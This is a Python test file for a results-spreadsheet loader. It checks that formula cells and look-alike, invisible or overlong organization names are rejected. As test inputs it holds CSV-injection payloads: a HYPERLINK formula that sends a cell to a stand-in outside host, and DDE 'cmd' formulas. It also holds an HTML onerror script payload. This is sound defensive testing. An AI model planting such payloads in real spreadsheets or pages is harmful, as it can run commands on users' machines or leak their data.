"""A results spreadsheet whose cells are formulas, or whose organization name is a look-alike,
invisible or endless, is refused row by row: the name is shown in every list of organizations
and on the dashboard, and the cells go back into spreadsheets."""

from __future__ import annotations

import pytest

from advisor.assessment import load_results
from advisor.errors import AssessmentError
from advisor.safety.cells import formula_problem, name_problem

from .helpers import write_csv


def _rows(name="Glenmoor Health", assessor="Program Office", evidence="No data catalog exists.", owner="CIO"):
    return [
        ["glenmoor-health", name, "2026-10-01", assessor, "STRAT-1", "3", "The AI strategy is a draft.", "CIO"],
        ["glenmoor-health", name, "2026-10-01", assessor, "DATA-3", "1", evidence, owner],
    ]


def _problems(tmp_path, inst, rows) -> str:
    with pytest.raises(AssessmentError) as exc:
        load_results(write_csv(tmp_path / "glenmoor.csv", rows), inst)
    return str(exc.value)


@pytest.mark.parametrize(
    "field,value",
    [
        ("name", '=HYPERLINK("http://glenmoor-results.example/?x="&A1,"Click for details")'),
        ("assessor", "=cmd|' /C calc'!A0"),
        ("evidence", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("owner", "+SUM(1,2)"),
        ("evidence", "-2+cmd|' /C calc'!A0"),
    ],
)
def test_a_formula_in_any_cell_is_refused_naming_its_row_and_column(tmp_path, inst, field, value):
    msg = _problems(tmp_path, inst, _rows(**{field: value}))
    column = {"name": "org_name"}.get(field, field)
    assert f"column {column}: starts with" in msg and "formula" in msg


@pytest.mark.parametrize(
    "name,why",
    [
        ("Meridian Health Partn\u0435rs", "two alphabets"),  # a Cyrillic "е"
        ("Northbridge Academic\u202e Medical", "invisible or direction-changing"),
        ("Northbridge\u200b Academic", "invisible or direction-changing"),
        ("Verdant Hills " + "Regional Medical Center " * 20, "characters long"),
        ("<img src=x onerror=alert(1)>Hostile Health", "markup"),
    ],
)
def test_a_look_alike_invisible_or_endless_organization_name_is_refused(tmp_path, inst, name, why):
    msg = _problems(tmp_path, inst, _rows(name=name))
    assert "column org_name" in msg and why in msg


def test_ordinary_names_numbers_and_dashes_are_accepted(tmp_path, inst):
    rows = _rows(name="St. Anne's Health (Ireland) – Münster Campus", evidence="- none yet; see row 4", owner="-")
    rows[0][6] = "-3 FTE since the 2025 budget; +2 planned"
    results = load_results(write_csv(tmp_path / "ok.csv", rows), inst)
    assert results.org_name.startswith("St. Anne's Health")
    assert formula_problem("-1.5") == "" and formula_problem("=1+1") and name_problem("Prairie Bend CAH") == ""
